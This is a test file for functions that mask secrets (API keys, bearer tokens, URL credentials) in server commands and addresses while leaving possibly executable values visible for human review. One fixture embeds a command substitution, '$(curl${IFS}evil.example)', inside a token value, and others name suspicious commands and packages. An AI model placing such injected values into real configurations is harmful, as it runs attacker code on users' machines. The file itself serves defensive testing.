// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of servers are written like that.
import { expect, it } from "vitest";
import { discreetAddress, discreetArgument, discreetTarget, discreetValue } from "./discreet-target.ts";

it.each<[readonly string[], string]>([
  [["-y", "server", "--port", "1"], "x -y server --port 1"],
  [["--api-key", "abc"], "x --api-key …"],
  [["--api-key=abc"], "x --api-key=…"],
  [["API_TOKEN=abc"], "x API_TOKEN=…"],
  [["--header", "Authorization: Bearer abc"], "x --header Authorization: …"],
  [["--token", "${TOKEN}"], "x --token ${TOKEN}"],
  [["--token", "${TOKEN:-abc}"], "x --token ${TOKEN:-…}"],
  [["--token", "--verbose"], "x --token --verbose"],
  [["ghp_abcdefghijklmnop"], "x …"],
  [["https://ann:abc@h.example/a?key=abc&b=${B}"], "x https://…@h.example/a?key=…&b=${B}"],
  [["https://h.example/a"], "x https://h.example/a"],
])("what looks like a secret is not shown: %j", (args, shown) => {
  expect(discreetTarget({ command: "x", args: [...args] })).toBe(shown);
});

it("an address keeps its host and its way", () => {
  expect(discreetTarget({ type: "http", url: "https://ann:abc@h.example/mcp?k=v#f" })).toBe(
    "https://…@h.example/mcp?k=…#f",
  );
});

const key = "aB3dE6gH9jK2mN5p";

it.each([
  ["OPENAI_API_KEY", "sk-abcdefghijklmnop", "…"],
  ["LEVEL", "sk-abcdefghijklmnop", "…"],
  ["API_TOKEN", key, "…"],
  ["Authorization", `Bearer ${key}`, "Bearer …"],
  ["X-Api-Key", "0123456789abcdef0123", "…"],
  ["KEY", "${KEY}", "${KEY}"],
  ["LEVEL", key, key],
  // What could do something is for people to see, whatever it is called.
  ["GIT_CONFIG_KEY_0", "core.sshCommand", "core.sshCommand"],
  ["AUTH_COMMAND", "/tmp/Evil-1 --now-or-later", "/tmp/Evil-1 --now-or-later"],
  ["KEY_MODULE", "some-evil-package-2", "some-evil-package-2"],
  ["TOKEN", "sk-$(curl${IFS}evil.example)", "sk-$(curl${IFS}evil.example)"],
])("for who decides about %s=%s only a key is hidden", (name, value, shown) => {
  expect(discreetValue(name, value)).toBe(shown);
});

it.each([
  ["--token", key, "…"],
  ["--port", key, key],
  ["", `--api-key=${key}`, "--api-key=…"],
  ["--header", `Authorization: Bearer ${key}`, "Authorization: Bearer …"],
  ["-e", "require('./x')", "require('./x')"],
  ["", "https://x.example/a", "https://x.example/a"],
])("behind %j the word %j is shown as %j", (before, word, shown) => {
  expect(discreetArgument(word, before)).toBe(shown);
});

it("an address that is decided about keeps all but keys", () => {
  expect(discreetAddress(`https://good.example:x@evil.example/mcp?to=a.example&key=${key}`)).toBe(
    "https://…@evil.example/mcp?to=a.example&key=…",
  );
});
